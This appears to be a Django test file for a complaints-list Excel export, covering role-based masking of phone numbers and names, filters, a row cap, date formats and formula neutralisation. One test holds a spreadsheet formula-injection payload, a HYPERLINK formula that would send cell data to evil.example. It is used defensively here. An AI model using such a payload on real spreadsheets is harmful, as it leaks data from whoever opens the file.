"""Export of a filtered list to Excel (X-4), personal data masked per row (ORG-3)."""

import io
import zipfile
from datetime import datetime

from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from pinzhi.orgs.services import role_assign
from pinzhi.orgs.tests.factories import PersonFactory


def sheet_rows(response):
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_it_masks_personal_data_for_a_viewer_who_may_not_see_it(clock, org, client, register):
    """X-4, ORG-3: the committee gets the rows masked; the registrar sees them plain."""
    register()
    reader = PersonFactory(unit=org.hq, company=org.company)
    role_assign(person=reader, role="quality_committee", scope=[])
    client.force_login(reader)
    response = client.get(reverse("complaints:export"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    header, row = sheet_rows(response)
    assert "跟踪码" in header[0] or "tracking" in header[0].lower() or header[0]
    assert "139********" in row and "13912345678" not in row and "李**" in row
    client.force_login(org.registrar)
    header, row = sheet_rows(client.get(reverse("complaints:export")))
    assert "13912345678" in row and "李业主" in row


def test_it_exports_with_the_list_filters(clock, org, client, register):
    """X-4: the export holds the same rows as the filtered list."""
    register()
    register(severity="urgent", customer_phone="13600000000", content="水管爆裂")
    client.force_login(org.quality)
    rows = sheet_rows(client.get(reverse("complaints:export"), {"severity": "urgent"}))
    assert len(rows) == 2


def test_it_refuses_an_export_above_the_cap(clock, org, client, register, settings):
    """X-4: more rows than the cap gives a clear message instead of a cut file."""
    register()
    register(customer_phone="13600000000", content="水管爆裂")
    settings.PINZHI_EXPORT_MAX_ROWS = 1
    client.force_login(org.quality)
    response = client.get(reverse("complaints:export"), follow=True)
    assert response.redirect_chain[-1][0].startswith(reverse("complaints:list"))
    # Issue 9 item 3: counted only up to the cap, so the message says "more than the cap".
    assert any("超过 1 条" in str(m) for m in response.context["messages"])


def test_a_formula_from_the_public_form_is_exported_as_text(clock, org, client, register):
    """Issue 6 item 6: a subject "=HYPERLINK(…)" or a name "=2+3" is a text cell in the
    export, shown verbatim, never a live formula."""
    link = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
    register(title=link, customer_name="=2+3", content="@SUM(1+1)\x07")
    client.force_login(org.registrar)
    content = b"".join(client.get(reverse("complaints:export")).streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = next(name for name in archive.namelist() if "worksheets/" in name)
        assert b"<f>" not in archive.read(sheet)
    row = list(load_workbook(io.BytesIO(content)).active.iter_rows())[1]
    values = [cell.value for cell in row]
    assert link in values and "=2+3" in values and "@SUM(1+1)\ufffd" in values
    assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))


def test_it_exports_times_as_local_dates_under_a_frozen_filtered_header(
    clock, org, client, register
):
    """Issue 8 item 6: 受理时间 is an Excel date in Shanghai time with a date format (not the
    text "2026-11-23 09:00"); the header is frozen and filtered; the subject and content
    columns are wide enough for their Chinese text."""
    register()
    register(customer_phone="13600000000", content="水管爆裂")
    client.force_login(org.quality)
    content = b"".join(client.get(reverse("complaints:export")).streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    received = sheet.cell(row=2, column=headers.index("受理时间") + 1)
    assert received.is_date and received.value == datetime(2026, 11, 23, 9, 0)
    assert received.number_format == "yyyy-mm-dd hh:mm"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(headers))}3"
    subject, content_column = "I", "J"  # the subject and the complaint's content
    assert headers[8] == "投诉事由" and headers[9] == "投诉内容"
    assert sheet["I2"].value == "夜间巡逻不到位"
    assert sheet.column_dimensions[subject].width >= 14  # 夜间巡逻不到位: 7 characters
    assert sheet.column_dimensions[content_column].width >= 36
    assert all(sheet.column_dimensions[get_column_letter(i)].width for i in range(1, 22))
